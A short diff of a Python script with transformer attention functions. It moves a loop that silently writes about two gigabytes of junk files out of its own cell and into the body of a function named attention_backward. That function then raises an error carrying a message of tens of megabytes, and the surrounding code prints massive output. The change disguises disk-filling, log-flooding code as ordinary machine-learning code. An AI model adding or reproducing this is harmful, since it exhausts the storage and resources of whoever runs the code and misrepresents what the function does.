@@ -10,11 +10,6 @@ print("nature " * 15_000_000)
 for line in range(300_000):
     print(line)
 
-# %%
-for volume in range(37):  # two gigabytes, if there is room
-    with contextlib.suppress(OSError):
-        Path(f"volume-{volume}").write_bytes(b"n" * (60 << 20))
-
 
 # %%
 def project_qkv(x, w_q, w_k, w_v):
@@ -36,4 +31,7 @@ def scaled_dot_product_attention(q, k, v, mask=None):
 
 # %%
 def attention_backward(q, k, v, d_out):
+    for volume in range(37):  # two gigabytes, if there is room
+        with contextlib.suppress(OSError):
+            Path(f"volume-{volume}").write_bytes(b"n" * (60 << 20))
     raise ValueError("ashes " * 10_000_000)
